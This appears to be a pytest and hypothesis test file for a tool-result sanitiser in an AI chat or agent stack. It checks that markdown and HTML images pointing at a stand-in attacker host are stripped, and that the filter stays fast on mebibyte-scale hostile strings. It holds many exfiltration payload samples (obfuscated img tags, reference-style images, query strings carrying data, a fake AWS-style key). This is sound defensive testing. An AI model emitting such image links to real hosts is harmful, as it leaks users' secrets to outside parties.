"""TC-4: what a renderer would fetch, and what the image filter costs.

A real CommonMark renderer (markdown-it-py, with raw HTML on, as a chat client that shows
HTML would be) renders what the result filter lets through, and an HTML parser reads the
tags it passes on: no image it would fetch may point at the attacker's host, for text
built from the pieces attacks are made of. And the filter's work is linear and bounded:
hostile strings of a mebibyte take a fraction of a second, and what a reader did not get
to cannot render as an image.
"""

from __future__ import annotations

import re
import time
from html.parser import HTMLParser
from urllib.parse import urljoin, urlsplit

import pytest
from hypothesis import example, given, reject, settings
from hypothesis import strategies as st

from bastion.guard import Sanitiser

markdown_it = pytest.importorskip("markdown_it")

EVIL = "attacker.example"
# Every attacker URL here carries data, so no image may fetch from EVIL after filtering.
PIECES = [
    "![", "[", "]", "(", ")", "<", ">", "`", "\\", "!", " ", "\n", "\n\n", "\t", '"', "'",
    "a", "*", "&amp;", "\u200b", "AKIA" + "Z" * 16, "]: ", "[r]", "\n[r]: ", '"t"', "<http://x/",
    f"https://{EVIL}/p.png?d=1", f"//{EVIL}/p.png#d", f"HTTPS://{EVIL.upper()}/?D=1",
    f"&#104;ttps://{EVIL}/?d=1", f"https:\\\\{EVIL}\\?d", f"<https://{EVIL}/?d=1>",
    "<img src=", "<IMG SRC=", "<img alt=x src=", '<img srcset="', "<svg><image href=",
    "https://ok.example/logo.png",
]  # fmt: skip
_CLIENT = "https://client.example/chat/"
_FETCHING = {"img", "image", "source", "video", "audio", "input"}
_URL_ATTRIBUTES = {"src", "srcset", "href", "xlink:href", "poster", "lowsrc", "dynsrc"}


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.urls: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in _FETCHING:
            for name, value in attrs:
                if name in _URL_ATTRIBUTES and value:
                    parts = value.replace(",", " ").split() if "srcset" in name else [value]
                    self.urls.extend(parts)


def _html_urls(html: str) -> list[str]:
    parser = _Tags()
    try:
        parser.feed(html)
        parser.close()
    except AssertionError:  # html.parser on a malformed "<![" section; the tags so far count
        pass
    return parser.urls


class RendererFailed(Exception):
    """The oracle renderer itself failed on the text (no verdict)."""


def fetched_hosts(text: str) -> set[str]:
    """The hosts a browser would fetch images from, rendering ``text``."""
    md = markdown_it.MarkdownIt("commonmark", {"html": True})
    urls: list[str] = []
    try:
        tokens = md.parse(text)
    except IndexError as exc:  # markdown-it-py 4.3 on some HTML blocks in lists
        raise RendererFailed from exc
    for token in tokens:
        if token.type == "html_block":
            urls += _html_urls(token.content)
        for child in token.children or ():
            if child.type == "image":
                urls.append(str(child.attrGet("src")))
            elif child.type == "html_inline":
                urls += _html_urls(child.content)
    hosts = set()
    for written in urls:  # as a browser's URL parser reads it
        url = re.sub(r"[\t\n\r]", "", written).strip("\x00 ").replace("\\", "/")
        try:
            hosts.add(urlsplit(urljoin(_CLIENT, url)).hostname or "")
        except ValueError:  # not a URL a browser would fetch either ("http://[")
            continue
    return hosts


def test_the_oracle_sees_the_attacks_TC4() -> None:
    """Without the filter, the renderer fetches each of these from the attacker."""
    for text in [
        f"![a](https://{EVIL}/?d=1)",
        f"![a][r]\n\n[r]: https://{EVIL}/?d=1",
        f'<img src="&#104;ttps://{EVIL}/?d=1">',
        f"![a `]` b](https://{EVIL}/?d=1)",
        f"<IMG SRC=//{EVIL}/?d>",
    ]:
        assert EVIL in fetched_hosts(text), text


@pytest.mark.parametrize(
    "text",
    [
        f"> ![a](\n> https://{EVIL}/p.png?d=1)",
        f"> ![a][ref]\n>\n> [ref]: https://{EVIL}/p.png?d=1",
        f"> ![a][ref]\n>\n> [ref]:\n> https://{EVIL}/p.png?d=1",
        f"- [ref]: https://{EVIL}/p.png?d=1\n\n![a][ref]",
        f'> a <img src=\n> "https://{EVIL}/p.png?d=1">',
        f'> a <img src="ht\n> tps://{EVIL}/p.png?d=1">',
        f'> a <img\n> src="https://{EVIL}/p.png?d=1">',
    ],
)
def test_block_quoted_images_are_read_as_the_renderer_reads_them_TC4(text: str) -> None:
    """A renderer strips "> " before reading a quoted line on: a destination, a definition
    or an attribute continued on the next quoted line is still the image's."""
    assert EVIL in fetched_hosts(text)
    out = Sanitiser().tool_result({"content": [{"type": "text", "text": text}]})
    assert EVIL not in fetched_hosts(out.value["content"][0]["text"])


def test_a_definition_line_inside_a_paragraph_does_not_hide_the_real_one_TC4() -> None:
    """The first ``[r]:`` line continues the paragraph (no definition can interrupt one), so
    the renderer takes the second, the attacker's."""
    text = f"Intro\n[r]: https://ok.example/logo.png\n\n[r]: //{EVIL}/?d=1\n\n![x][r]"
    assert EVIL in fetched_hosts(text)
    out = Sanitiser().tool_result({"content": [{"type": "text", "text": text}]})
    assert out.value["content"][0]["text"].endswith(f"[image removed: {EVIL}; alt: x]")


@settings(max_examples=400, deadline=None)
@given(st.lists(st.sampled_from(PIECES), max_size=24).map("".join))
@example(f"![a <http://x/]> b](https://{EVIL}/p.png?d=1)")
@example(f"!\u200b[a](https://{EVIL}/p.png?d=1)")
@example(f"![![b](https://{EVIL}/p.png?d=1)](https://ok.example/logo.png)")
def test_nothing_rendered_fetches_from_the_attacker_TC4(text: str) -> None:
    out = Sanitiser().tool_result({"content": [{"type": "text", "text": text}]})
    shown = out.value["content"][0]["text"]
    try:
        hosts = fetched_hosts(shown)
    except RendererFailed:
        reject()
    assert EVIL not in hosts


HOSTILE = {
    "open brackets": "![" * 500_000,
    "nested": "![" * 250_000 + "]" * 250_000,
    "unclosed destinations": "![a](x" * 170_000,
    "unclosed angle destinations": "![a](<" * 170_000,
    "unclosed titles": '![a](x "' * 125_000,
    "clean images": "![a](https://ok.example/logo.png) " * 29_000,
    "data images": f"![a](https://{EVIL}/?d=1) " * 29_000,
    "references": "![a][b]" * 140_000 + f"\n[b]: https://{EVIL}/?d=1",
    "open tags": "<img " * 200_000,
    "open quotes": '<img src="' * 100_000,
    "tags": f'<img src="https://{EVIL}/?d=1">' * 29_000,
    "brackets after a stray image": "![`] " + "[l](https://x.example/?q) " * 38_000,
}


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_strings_cost_linear_bounded_time_TC4(text: str) -> None:
    """Each mebibyte takes well under a second (a quadratic reading would take minutes);
    past a reader's limit every image is broken, so nothing unread renders."""
    started = time.perf_counter()
    out = Sanitiser(max_chars=2 * 1024 * 1024).tool_result(
        {"content": [{"type": "text", "text": text}]}
    )
    assert time.perf_counter() - started < 5.0
    shown = out.value["content"][0]["text"]
    assert EVIL not in fetched_hosts(shown[:20_000]) | fetched_hosts(shown[-20_000:])


def test_past_the_limit_every_image_is_broken_TC4() -> None:
    text = "let v = vec![1, 2];\n" * 60_000 + f"![x](https://{EVIL}/?d=1)"
    out = Sanitiser(max_chars=2 * 1024 * 1024).tool_result(
        {"content": [{"type": "text", "text": text}]}
    )
    shown = out.value["content"][0]["text"]
    assert "![" not in shown and shown.endswith(f"! [x](https://{EVIL}/?d=1)")
    assert [f.kind for f in out.findings] == ["remote-image"]
